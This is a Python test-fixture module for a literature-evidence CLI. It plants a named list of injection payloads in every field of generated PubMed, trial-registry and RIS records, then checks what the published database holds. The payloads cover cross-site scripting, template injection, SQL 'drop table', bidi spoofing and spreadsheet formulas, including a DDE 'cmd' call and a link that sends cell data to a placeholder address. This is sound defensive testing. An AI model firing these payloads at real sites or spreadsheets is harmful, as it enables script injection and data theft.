"""Attacks, and the published file that comes of records which carry them everywhere."""

from __future__ import annotations

import json
import sqlite3
from contextlib import closing
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

from click.testing import CliRunner

from evidence.cli import main

RUN = "window.ran=1"

ATTACKS: dict[str, str] = {
    "script element": f"<script>{RUN}</script>",
    "closed attribute": f"\"'><img src=x onerror={RUN}>",
    "svg onload": f"<svg/onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s>",
    "javascript link": f"javascript:{RUN}//<a href=javascript:{RUN}>x</a>",
    "data link": f"data:text/html,<script>{RUN}</script>",
    "style breakout": f"</style><style>body{{background:url(http://192.0.2.1/x)}}</style>"
    f"<script>{RUN}</script>",
    "textarea and title": f"</textarea></title></noscript><script>{RUN}</script>",
    "template syntax": "{{7*7}}{% raw %}${7*7}#{7*7}{{config}}",
    "JSON and script breakout": f'"}}]}};{RUN};//</script><script>{RUN}</script>\u2028{RUN}',
    "CDATA and Atom breakout": f"]]></title><script xmlns='http://www.w3.org/1999/xhtml'>{RUN}"
    "</script>",
    "formula": '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
    "formula after a tab": "\t@SUM(1+1)*cmd|'/c calc'!A0",
    "markdown": f"[x](javascript:{RUN}) ![x](http://192.0.2.1/x.png) `</code>`",
    "right to left": "\u202e\u2066gnp.exe\u2069 \u200f reversed",
    "unbroken": "W" * 3000,
    "iframe and base": "<base href=http://192.0.2.1/><iframe srcdoc='<script>parent.ran=1"
    "</script>'></iframe><meta http-equiv=refresh content='0;url=http://192.0.2.1/'>",
    "SQL": "'; drop table records; --\" or 1=1",
    "entity twice": f"&lt;script&gt;{RUN}&lt;/script&gt;&#x3c;img src=x onerror={RUN}&#x3e;",
}
"""What is tried, by name. 192.0.2.1 is an address that is nobody's (RFC 5737)."""


def hostile_file(folder: Path) -> Path:
    """Import, tag and publish records that carry each attack in every field; return the file."""
    xml = folder / "attacks.xml"
    xml.write_text(_pubmed(), encoding="utf-8")
    studies = folder / "attacks.json"
    studies.write_text(json.dumps({"studies": [_study(n) for n in range(len(ATTACKS))]}))
    named = folder / f"\"'><img src=x onerror={RUN}>{{{{7*7}}}}=1+1.ris"
    named.write_text(_ris(), encoding="utf-8")
    data = folder / "data"
    # Records that cannot be read are among them: the import says so with code 1.
    run(data, {0, 1}, "import", str(xml), str(studies), str(named))
    run(data, {0}, "tag")
    run(data, {0}, "publish")
    return data / "evidence.db"


def run(data: Path, codes: set[int], *arguments: str) -> str:
    """Run a command as its user does."""
    result = CliRunner().invoke(
        main, [*arguments, "--data-dir", str(data)], env={"EVIDENCE_PAGE_CHECK": "off"}
    )
    assert result.exit_code in codes, (result.exit_code, result.output, result.exception)
    return result.output


def tables(path: Path) -> list[str]:
    """Return the tables and views of a published file."""
    with closing(sqlite3.connect(path)) as connection:
        found = connection.execute(
            "select name from sqlite_master where type in ('table', 'view') and name not like "
            "'%\\_fts%' escape '\\' and name not like 'sqlite%' order by name"
        ).fetchall()
    return [name for (name,) in found]


def _all() -> str:
    return "".join(ATTACKS.values())


def _pubmed() -> str:
    articles = "".join(_article(n, text) for n, text in enumerate(ATTACKS.values()))
    return f"<?xml version='1.0'?><PubmedArticleSet>{articles}{_unreadable()}</PubmedArticleSet>"


def _article(number: int, attack: str) -> str:
    a = escape(attack)
    pmid = 90000001 + number
    return f"""<PubmedArticle><MedlineCitation><PMID Version="1">{pmid}</PMID>
<DateRevised><Year>2026</Year><Month>01</Month><Day>02</Day></DateRevised>
<Article PubModel="Print"><Journal><ISSN>{a}</ISSN><JournalIssue><Volume>{a}</Volume>
<Issue>{a}</Issue><PubDate><Year>2024</Year></PubDate></JournalIssue><Title>{a} Journal</Title>
<ISOAbbreviation>{a}</ISOAbbreviation></Journal>
<ArticleTitle>{a} Ketamine in anorexia nervosa {a}</ArticleTitle>
<Pagination><MedlinePgn>{a}</MedlinePgn></Pagination>
<ELocationID EIdType="doi" ValidYN="Y">10.1000/{a}</ELocationID>
<Abstract><AbstractText Label="{escape(attack, {'"': "&quot;"})}">{a} Nausea {a} occurred in 2 of 4.
Depression scores improved. {a}</AbstractText>
<CopyrightInformation>{a}</CopyrightInformation></Abstract>
<AuthorList CompleteYN="Y"><Author ValidYN="Y"><LastName>{a}</LastName><ForeName>{a}</ForeName>
<Initials>{a}</Initials><Identifier Source="ORCID">{a}</Identifier><AffiliationInfo>
<Affiliation>{a}</Affiliation></AffiliationInfo></Author>
<Author ValidYN="Y"><CollectiveName>{a}</CollectiveName></Author></AuthorList>
<Language>eng</Language><GrantList CompleteYN="Y"><Grant><GrantID>{a}</GrantID>
<Agency>{a}</Agency><Country>{a}</Country></Grant></GrantList>
<PublicationTypeList><PublicationType UI="D016428">{a}</PublicationType></PublicationTypeList>
<VernacularTitle>{a}</VernacularTitle></Article>
<MedlineJournalInfo><MedlineTA>{a}</MedlineTA></MedlineJournalInfo>
<ChemicalList><Chemical><RegistryNumber>{a}</RegistryNumber>
<NameOfSubstance UI="D007649">{a}</NameOfSubstance></Chemical></ChemicalList>
<CommentsCorrectionsList><CommentsCorrections RefType="ErratumIn"><RefSource>{a}</RefSource>
<PMID>90000001</PMID><Note>{a}</Note></CommentsCorrections></CommentsCorrectionsList>
<MeshHeadingList><MeshHeading><DescriptorName UI="D000856" MajorTopicYN="Y">{a}</DescriptorName>
</MeshHeading></MeshHeadingList><KeywordList Owner="NOTNLM"><Keyword>{a}</Keyword></KeywordList>
<CoiStatement>{a}</CoiStatement></MedlineCitation>
<PubmedData><ArticleIdList><ArticleId IdType="pubmed">{pmid}</ArticleId>
<ArticleId IdType="pii">{a}</ArticleId></ArticleIdList></PubmedData></PubmedArticle>"""


def _unreadable() -> str:
    a = escape(_all())
    return f"<PubmedArticle><MedlineCitation><PMID>{a}</PMID></MedlineCitation></PubmedArticle>"


def _study(number: int) -> dict[str, Any]:
    a = list(ATTACKS.values())[number]
    nct = f"NCT9{number:07d}"
    group = {"id": "EG000", "title": a, "description": a, "seriousNumAffected": 1,
             "seriousNumAtRisk": 4, "otherNumAffected": 2, "otherNumAtRisk": 4,
             "deathsNumAffected": 0, "deathsNumAtRisk": 4}  # fmt: skip
    event = {"term": f"{a} Nausea", "organSystem": a, "sourceVocabulary": a, "notes": a,
             "assessmentType": "SYSTEMATIC_ASSESSMENT",
             "stats": [{"groupId": "EG000", "numAffected": 2, "numAtRisk": 4}]}  # fmt: skip
    return {
        "protocolSection": {
            "identificationModule": {
                "nctId": nct, "briefTitle": f"{a} Ketamine in anorexia nervosa",
                "officialTitle": a, "acronym": a, "orgStudyIdInfo": {"id": a},
                "secondaryIdInfos": [{"id": a, "type": "OTHER", "domain": a, "link": a}],
                "organization": {"fullName": a, "class": "OTHER"},
            },
            "statusModule": {
                "overallStatus": "TERMINATED", "whyStopped": a,
                "startDateStruct": {"date": "2022-01"},
                "lastUpdatePostDateStruct": {"date": "2026-01-02", "type": "ACTUAL"},
            },
            "sponsorCollaboratorsModule": {
                "leadSponsor": {"name": a}, "collaborators": [{"name": a}],
            },
            "descriptionModule": {"briefSummary": f"{a} Nausea.", "detailedDescription": a},
            "conditionsModule": {"conditions": ["Anorexia Nervosa", a], "keywords": [a]},
            "designModule": {
                "studyType": "INTERVENTIONAL", "phases": ["PHASE2"],
                "designInfo": {"allocation": "RANDOMIZED", "interventionModelDescription": a},
                "enrollmentInfo": {"count": 4, "type": "ACTUAL"},
            },
            "armsInterventionsModule": {
                "armGroups": [{"label": a, "type": "EXPERIMENTAL", "description": a,
                               "interventionNames": [f"Drug: {a}"]}],
                "interventions": [{"type": "DRUG", "name": a, "description": a,
                                   "armGroupLabels": [a], "otherNames": [a]}],
            },
            "outcomesModule": {
                "primaryOutcomes": [{"measure": f"{a} EDE-Q", "description": a, "timeFrame": a}],
            },
            "eligibilityModule": {"eligibilityCriteria": a, "sex": "ALL", "minimumAge": a},
            "contactsLocationsModule": {
                "overallOfficials": [{"name": a, "role": "PRINCIPAL_INVESTIGATOR"}],
                "locations": [{"facility": a, "city": a, "country": a, "status": a}],
            },
            "referencesModule": {
                "references": [{"pmid": str(90000001 + number), "type": "RESULT", "citation": a}],
            },
        },
        "resultsSection": {
            "adverseEventsModule": {
                "frequencyThreshold": "0", "timeFrame": a, "description": a,
                "eventGroups": [group], "seriousEvents": [event], "otherEvents": [event],
            },
        },
        "hasResults": True,
    }  # fmt: skip


def _ris() -> str:
    return "".join(
        f"TY  - JOUR\nTI  - {line} Ketamine for bulimia nervosa\nAU  - {line}, A.\nPY  - 2021\n"
        f"UR  - {line}\nAB  - {line} Headache was reported.\nDO  - 10.1000/ris{number}\n"
        f"KW  - {line}\nJO  - {line}\nID  - {line}\nER  - \n\n"
        for number, line in enumerate(
            " ".join(text.replace("\u2028", " ").split()) for text in ATTACKS.values()
        )
    )
